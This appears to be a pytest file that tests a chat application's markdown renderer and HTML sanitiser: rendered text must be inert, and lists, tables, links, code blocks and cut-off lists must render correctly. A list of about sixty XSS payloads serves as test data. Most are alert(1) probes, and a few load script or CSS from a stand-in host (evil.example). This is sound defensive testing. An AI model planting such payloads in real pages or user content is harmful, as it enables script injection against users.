"""Markdown to safe HTML: what a model or a user writes renders, and nothing in it can run."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from chat.rendering.markdown import cut_off, render_markdown, sanitize


class _Tags(HTMLParser):
    """Every start tag of a fragment, with its attributes as a browser would read them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def text_of(html: str) -> str:
    """What a reader sees of a fragment, as text."""
    parser = _Text()
    parser.feed(html)
    parser.close()
    return "".join(parser.parts)


def tags_of(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "style", "form", "base"}
# Formulas are drawn as MathML: presentation elements only, nothing in them is a link.
MATH_TAGS = {"math", "mi", "mn", "mo", "mrow", "mtext", "msup", "msub", "mfrac", "msqrt"}
# The one data: URL that may stay: a raster picture, as an image's source.
_RASTER_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp)[;,]")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster"}
# What a browser ignores in a URL before its scheme: whitespace and control characters.
_IGNORED_IN_SCHEME = re.compile(r"[\x00-\x20\x7f]+")


def assert_inert(html: str) -> None:
    assert "<script" not in html.lower()
    for tag, attrs in tags_of(html):
        assert tag not in DANGEROUS_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name}= survived in {html!r}"
            if tag in MATH_TAGS:
                assert name not in URL_ATTRIBUTES | {"style"}, f"{name}= in math: {html!r}"
            if name in URL_ATTRIBUTES:
                scheme = _IGNORED_IN_SCHEME.sub("", value).lower()
                if tag == "img" and name == "src" and _RASTER_IMAGE.match(scheme):
                    continue
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), (
                    f"{name}={value!r} survived in {html!r}"
                )


XSS_PAYLOADS = [
    # script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("https://evil.example")</script>',
    "text <script>alert(1)</script> more **bold**",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<p style="x" onpointerenter=alert(1)>p</p>',
    # dangerous URLs in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    # svg, iframe, object and friends
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<base href="javascript:alert(1)//">',
    "<style>@import 'https://evil.example/x.css';</style>",
    # markdown link and image tricks
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://example.com/a.png "onerror=alert(1)")',
    '[a](https://example.com "\\" onmouseover=\\"alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[<script>alert(1)</script>](https://example.com)",
    # encoded variants and entity tricks
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # code, math, images, alerts and footnotes: the renderers beyond plain markdown
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```python onload=alert(1)\n<script>alert(1)</script>\n```",
    r"$\href{javascript:alert(1)}{click}$",
    r"$$\text{<img src=x onerror=alert(1)>}$$",
    r"\(\unicode{x3C}script\unicode{x3E}alert(1)\)",
    r"$\def\a{\a\a}\a$",
    '![" onerror="alert(1)](/x.png)',
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "> [!NOTE]\n> <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    "Note[^1].\n\n[^1]: <script>alert(1)</script>[y](javascript:alert(1))",
    "- [x] <svg onload=alert(1)>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_as_markup(payload):
    assert_inert(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_the_sanitiser_alone_strips_every_payload_given_as_html(payload):
    # Defence in depth: even HTML that skipped the markdown parser comes out inert.
    assert_inert(sanitize(payload))


def test_there_are_at_least_thirty_payloads():
    assert len(XSS_PAYLOADS) >= 30


def test_raw_html_is_shown_as_text():
    html = render_markdown("<b onclick=alert(1)>hi</b>")
    assert "&lt;b onclick=alert(1)&gt;hi&lt;/b&gt;" in html
    assert tags_of(html) == [("p", {})]


def test_sanitiser_keeps_safe_links_and_drops_dangerous_hrefs():
    html = sanitize('<a href="https://example.com">ok</a><a href="javascript:alert(1)">bad</a>')
    hrefs = [attrs.get("href") for tag, attrs in tags_of(html) if tag == "a"]
    assert hrefs == ["https://example.com", None]


def test_fenced_code_block_renders_with_its_language_and_escaped_content():
    html = render_markdown("```python\nif a < b:\n    print('<x>')\n```")
    assert '<pre><code class="language-python">' in html
    assert '<span class="code-block__lang">python</span>' in html
    assert text_of(html) == "pythonif a < b:\n    print('<x>')\n\n"


def test_inline_code_renders():
    assert "<code>x = 1</code>" in render_markdown("Set `x = 1` first.")


def test_bullet_and_numbered_lists_render():
    html = render_markdown("- apples\n- pears\n\n3. third\n4. fourth")
    assert [tag for tag, _ in tags_of(html)] == ["ul", "li", "li", "ol", "li", "li"]
    assert ("ol", {"start": "3"}) in tags_of(html)


def test_tables_render_with_alignment():
    html = render_markdown("| Name | Count |\n|:--|--:|\n| a | 1 |")
    tags = tags_of(html)
    assert [tag for tag, _ in tags] == [
        "table",
        "thead",
        "tr",
        "th",
        "th",
        "tbody",
        "tr",
        "td",
        "td",
    ]
    assert ("th", {"style": "text-align:left"}) in tags
    assert ("td", {"style": "text-align:right"}) in tags


def test_links_render_and_open_safely_in_a_new_tab():
    html = render_markdown("See [the docs](https://example.com/docs).")
    assert tags_of(html)[1] == (
        "a",
        {
            "href": "https://example.com/docs",
            "target": "_blank",
            "rel": "noopener noreferrer nofollow",
        },
    )


def test_mailto_links_are_kept():
    html = render_markdown("[write](mailto:help@example.com)")
    assert (
        "a",
        {
            "href": "mailto:help@example.com",
            "target": "_blank",
            "rel": "noopener noreferrer nofollow",
        },
    ) in tags_of(html)


def test_emphasis_headings_quotes_and_strikethrough_render():
    html = render_markdown("# Title\n\n**bold** *it* ~~gone~~\n\n> quoted")
    assert [tag for tag, _ in tags_of(html)] == ["h1", "p", "strong", "em", "s", "blockquote", "p"]


def test_empty_and_missing_text_render_as_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("1. a\n2. b\n3.", "1. a\n2. b"),
        ("1. a\n2. b\n3. ", "1. a\n2. b"),
        ("1) a\n2)", "1) a"),
        ("1. a\n2. b\n3", "1. a\n2. b"),  # "3" of a "3." that never came
        ("- a\n- b\n-", "- a\n- b"),
        ("- a\n  - b\n  *", "- a\n  - b"),
        ("A paragraph\n-", "A paragraph"),  # not a heading's underline
        ("1.", ""),
    ],
)
def test_a_cut_off_text_drops_the_list_item_it_had_only_opened(text, kept):
    assert cut_off(text) == kept


@pytest.mark.parametrize(
    "text", ["1. a\n2. b", "The answer is\n42", "- a\n- b", "Costs:\n\n1. 3 euros"]
)
def test_a_cut_off_text_keeps_what_was_written_in_full(text):
    assert cut_off(text) == text


# -- plain words, rendered without the parser --------------------------------------------------
PLAIN_OR_NOT = [
    "hi", "NESTED", "Hello world.", "I'm fine, thanks!", "e.g. this: that; those?",
    "Ünïcödé wörds 日本語 \u0661\u0662", "a.b", "x '", "1. a list", "2) another", "a  b", "a ",
    "# heading", "*em*", "a_b_c", "a & b", "a < b", 'say "hi"', "line\nbreak", "tab\there",
    "$x$", "\\(x\\)", "[link](https://example.com)", "~~gone~~", "a | b", "- item", "> quote",
    "`code`", "hi\n===", "word[^1]", "x\u00a0y", "https://example.com",
]  # fmt: skip


@pytest.mark.parametrize("text", PLAIN_OR_NOT)
def test_plain_words_render_as_the_parser_and_sanitiser_render_them(text):
    from chat.rendering.markdown import _render

    assert render_markdown(text) == _render(text, None, highlight=True)


def test_random_short_texts_render_as_the_parser_and_sanitiser_render_them():
    import random

    from chat.rendering.markdown import _render

    alphabet = [
        *"abcXYZé日ßK0123456789 ,.;:!?'",
        "\u0661",
        "\u0301",
        "  ",
        *'-*_#>&<"\n\t`$\\[]()~|=+@/',
    ]
    chooser = random.Random(27)
    for _ in range(20_000):
        text = "".join(chooser.choice(alphabet) for _ in range(chooser.randint(1, 12)))
        assert render_markdown(text) == _render(text, None, highlight=True), text


def test_a_name_to_link_still_goes_through_the_parser():
    html = render_markdown("see report", {"report": "/files/1"})
    assert '<a href="/files/1"' in html
